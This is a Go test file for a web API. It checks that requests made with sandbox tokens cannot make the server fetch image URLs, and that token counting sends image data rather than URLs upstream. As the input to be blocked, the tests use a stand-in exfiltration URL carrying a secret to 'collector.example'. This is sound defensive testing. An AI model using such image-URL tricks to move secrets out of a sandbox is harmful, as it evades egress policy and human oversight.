package web

import (
	"context"
	"log/slog"
	"strings"
	"sync"
	"testing"

	"github.com/gofiber/fiber/v2"

	"threadbox/app/messages"
	"threadbox/app/messages/wire"
	"threadbox/app/turns"
	"threadbox/domain/user"
)

// textModel answers every step with one text block.
type textModel struct{}

func (textModel) Step(context.Context, messages.StepRequest) (*messages.StepResult, error) {
	return &messages.StepResult{Content: []wire.ContentBlock{{Type: "text", Text: "seen"}}, StopReason: "end_turn"}, nil
}

func (m textModel) StreamStep(ctx context.Context, req messages.StepRequest, _ func(messages.StepEvent) error) (*messages.StepResult, error) {
	return m.Step(ctx, req)
}

// recordingURLs records the URLs it is asked to fetch and answers a PNG.
type recordingURLs struct {
	mu   sync.Mutex
	urls []string
}

func (r *recordingURLs) Fetch(_ context.Context, url string, _ []string) (string, []byte, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.urls = append(r.urls, url)
	return "image/png", []byte("\x89PNG\r\n\x1a\n"), nil
}

func (r *recordingURLs) fetched() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.urls...)
}

// noContainers stands for the containers of turns in a test whose
// requests need none (no code execution, no container named).
type noContainers struct{ turns.Containers }

// TestSandboxTokensFetchNoURLs sends a Messages request naming an image by
// URL as a sandbox token, as code in a sandbox could to reach an address
// its org's egress policy does not allow (a secret in the URL's query, say):
// it is refused with 403 and nothing is fetched; the user's own API token
// has the image fetched as before.
func TestSandboxTokensFetchNoURLs(t *testing.T) {
	urls := &recordingURLs{}
	engine := messages.New(textModel{}, messages.Tools{}, messages.Config{URLs: urls})
	srv := &Server{log: slog.New(slog.DiscardHandler), svc: Services{Turns: turns.New(turns.Deps{Engine: engine, Containers: noContainers{}})}}
	api := user.Principal{UserID: "usr_1", OrgID: "org_1", Role: user.Member, TokenID: "tok_1", Kind: user.APIToken}
	sandbox := api
	sandbox.TokenID, sandbox.Kind, sandbox.ContainerID = "tok_2", user.SandboxToken, "thr_1"

	send := func(p user.Principal, url string) (int, string, []byte) {
		t.Helper()
		app := fiber.New(fiber.Config{ErrorHandler: srv.errorHandler})
		app.Post("/api/gpt/v1/messages", func(c *fiber.Ctx) error { c.Locals(principalKey, p); return c.Next() }, srv.createMessage)
		body := `{"model":"m","max_tokens":5,"messages":[{"role":"user","content":[` +
			`{"type":"image","source":{"type":"url","url":"` + url + `"}},{"type":"text","text":"what is it?"}]}]}`
		return callAs(t, app, "POST", "/api/gpt/v1/messages", body)
	}
	if status, typ, body := send(sandbox, "https://collector.example/p.png?secret=s3cr3t"); status != fiber.StatusForbidden || typ != "permission_error" {
		t.Fatalf("a sandbox token's image URL: %d %s %s, want 403 permission_error", status, typ, body)
	}
	if got := urls.fetched(); len(got) != 0 {
		t.Fatalf("fetched %q for a sandbox token's request", got)
	}
	if status, _, body := send(api, "https://images.example/cat.png"); status != fiber.StatusOK {
		t.Fatalf("the user's API token's image URL: %d %s, want 200", status, body)
	}
	if got := urls.fetched(); len(got) != 1 || got[0] != "https://images.example/cat.png" {
		t.Fatalf("fetched %q for the API token's request, want the image's URL once", got)
	}
}

// countingModel is a textModel whose upstream counts tokens; it keeps the
// messages of each count request as the upstream would get them.
type countingModel struct {
	textModel
	mu   sync.Mutex
	sent []string
}

func (m *countingModel) CountTokens(_ context.Context, req messages.StepRequest) (int, error) {
	b, err := wire.MarshalMessages(req.Messages)
	if err != nil {
		return 0, err
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	m.sent = append(m.sent, string(b))
	return 7, nil
}

func (m *countingModel) counted() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]string(nil), m.sent...)
}

// TestCountTokensSendsNoURLs counts a request naming an image by URL: the
// upstream gets the image as data, never the URL (which it would fetch, as
// a model server may reach addresses the caller cannot), and a sandbox
// token's count is refused with 403 and fetches nothing, as its turns are.
func TestCountTokensSendsNoURLs(t *testing.T) {
	urls := &recordingURLs{}
	model := &countingModel{}
	srv := &Server{log: slog.New(slog.DiscardHandler), svc: Services{Counter: messages.New(model, messages.Tools{}, messages.Config{URLs: urls})}}
	api := user.Principal{UserID: "usr_1", OrgID: "org_1", Role: user.Member, TokenID: "tok_1", Kind: user.APIToken}
	sandbox := api
	sandbox.TokenID, sandbox.Kind, sandbox.ContainerID = "tok_2", user.SandboxToken, "thr_1"

	count := func(p user.Principal, url string) (int, string, []byte) {
		t.Helper()
		app := fiber.New(fiber.Config{ErrorHandler: srv.errorHandler})
		app.Post("/api/gpt/v1/messages/count_tokens", func(c *fiber.Ctx) error { c.Locals(principalKey, p); return c.Next() }, srv.countTokens)
		body := `{"model":"m","messages":[{"role":"user","content":[` +
			`{"type":"image","source":{"type":"url","url":"` + url + `"}},{"type":"text","text":"what is it?"}]}]}`
		return callAs(t, app, "POST", "/api/gpt/v1/messages/count_tokens", body)
	}
	if status, _, body := count(api, "https://images.example/cat.png"); status != fiber.StatusOK {
		t.Fatalf("counting an image URL: %d %s, want 200", status, body)
	}
	sent := model.counted()
	if len(sent) != 1 || strings.Contains(sent[0], "images.example") || !strings.Contains(sent[0], `"base64"`) {
		t.Fatalf("the upstream was sent %q, want the image as base64 data and no URL", sent)
	}
	if got := urls.fetched(); len(got) != 1 {
		t.Fatalf("fetched %q for the count, want the image's URL once", got)
	}
	if status, typ, body := count(sandbox, "https://collector.example/p.png?secret=s3cr3t"); status != fiber.StatusForbidden || typ != "permission_error" {
		t.Fatalf("a sandbox token counting an image URL: %d %s %s, want 403 permission_error", status, typ, body)
	}
	if got, sent := urls.fetched(), model.counted(); len(got) != 1 || len(sent) != 1 {
		t.Fatalf("a sandbox token's count fetched %q and sent the upstream %q", got, sent)
	}
}
